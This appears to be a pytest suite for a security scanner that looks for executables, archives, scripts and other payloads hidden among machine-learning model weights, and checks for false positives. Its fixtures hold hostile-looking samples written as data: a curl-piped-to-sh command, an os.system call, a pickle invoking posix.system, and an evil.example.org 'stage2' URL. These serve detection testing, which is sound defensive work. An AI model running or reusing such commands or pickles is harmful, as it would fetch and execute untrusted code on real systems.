"""Payloads among weights: real headers are found wherever they lie, chance is not."""

from __future__ import annotations

import io
import random
import struct

import pytest

from hauberk.scanning.payloads import WHOLE, payloads


def pe() -> bytes:
    return (
        b"MZ".ljust(60, b"\0")
        + struct.pack("<I", 128)
        + bytes(64)
        + b"PE\0\0"
        + struct.pack("<HH", 0x8664, 3)
        + bytes(64)
    )


@pytest.fixture
def elf() -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 62, 1) + bytes(40)


SAMPLES = {
    "a Windows program": pe(),
    "a macOS program": struct.pack("<7I", 0xFEEDFACF, 0x01000007, 3, 2, 10, 800, 0) + bytes(40),
    "a zip archive": b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0, 0, 5, 5, 5, 0) + b"a.txt",
    "a 7z archive": b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(40),
    "a RAR archive": b"Rar!\x1a\x07\x01\x00",
    "a script": b"#!/bin/sh\nid\n",
    "a PHP script": b"<?php echo 1;",
    "shell commands": b"curl -s https://x.y/z | sh",
    "Python code": b"__import__('os').system('id')",
    "a pickle that names a dangerous module": b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93.",
}


def found(data: bytes, *spans: tuple[int, int]) -> list[str]:
    facts = payloads(io.BytesIO(data), len(data), spans or [(0, len(data))])
    assert all((fact.place.offset or 0) < len(data) for fact in facts)
    return [fact.value for fact in facts if fact.kind == "payload"]


@pytest.mark.parametrize("kind", SAMPLES)
@pytest.mark.parametrize("before", [0, 1, 4099, 131_070])
def test_found_at_any_offset(kind: str, before: int) -> None:
    rng = random.Random(before)
    assert kind in found(rng.randbytes(before) + SAMPLES[kind] + bytes(200))


def test_elf(elf: bytes) -> None:
    assert found(bytes(77) + elf) == ["an ELF program"]


@pytest.mark.parametrize(
    "magic", [b"MZ", b"\x7fELF", b"PK\x03\x04", b"#!/", b"\xcf\xfa\xed\xfe", b"7z\xbc\xaf\x27\x1c"]
)
def test_magic_bytes_alone_are_chance(magic: bytes) -> None:
    rng = random.Random(7)
    data = b"".join(magic + rng.randbytes(61).replace(b"\0", b"\1") for _ in range(300))
    assert found(data) == []


def test_random_weights_are_quiet() -> None:
    assert found(random.Random(1).randbytes(6 << 20)) == []


def test_many_bytes_are_sampled_and_the_beginnings_of_tensors_always_read(elf: bytes) -> None:
    size = WHOLE * 3
    data = bytearray(size)
    place = size // 2 + 12_345
    data[place : place + len(elf)] = elf
    spans = [(0, place - 8192), (place, size)]
    assert found(bytes(data), *spans) == ["an ELF program"]


class Counting(io.BytesIO):
    taken = 0

    def read(self, size: int | None = -1) -> bytes:
        data = super().read(size)
        self.taken += len(data)
        return data


def test_a_large_file_is_not_read_whole() -> None:
    stream = Counting(bytes(64 << 20))
    payloads(stream, 64 << 20, [(0, 64 << 20)])
    assert stream.taken < 8 << 20


def test_every_byte_is_searched_for_programs_where_digests_are_asked_for(elf: bytes, tmp_path) -> None:
    import json

    from hauberk.core.evidence import Finding
    from hauberk.scanning.kit import tools
    from hauberk.scanning.reading import scan_file
    from hauberk.scanning.tree import Listed

    size = WHOLE * 2
    header = json.dumps({"w": {"dtype": "U8", "shape": [size], "data_offsets": [0, size]}}).encode()
    data = bytearray(random.Random(3).randbytes(1 << 16) * (size >> 16))
    stub = pe()[:64] + b"\x0e\x1f\xba\x0e\0\xb4\x09\xcd\x21\xb8\x01L\xcd\x21This program cannot be run in DOS mode"
    dos = stub.ljust(128, b"\0") + pe()[128:]
    places = {"an ELF program": (1 << 18) * 7 - 8 - len(header) - 8, "a Windows program": size - 99_999}
    for title, program in (("an ELF program", elf), ("a Windows program", dos)):
        data[places[title] : places[title] + len(program)] = program
    (tmp_path / "m.safetensors").write_bytes(len(header).to_bytes(8, "little") + header + data)
    listed = Listed(tmp_path / "m.safetensors", "m.safetensors")

    def payloads_of(digests: bool) -> dict[str, int | None]:
        found = scan_file(listed, tools(), digests=digests).entries
        rows = [one for one in found if isinstance(one, Finding) and one.rule == "model.embedded_payload"]
        return {one.message.removeprefix("its weights hold "): one.location.offset for one in rows}

    assert payloads_of(digests=False) == {}
    assert payloads_of(digests=True) == {title: 8 + len(header) + place for title, place in places.items()}


def test_an_address_among_weights() -> None:
    rng = random.Random(5)
    assert found(rng.randbytes(5000) + b"https://evil.example.org/stage2?x=1" + rng.randbytes(500)) == ["an address"]
    assert found(b"https:// http://www. ://localhost https://x" * 20) == []
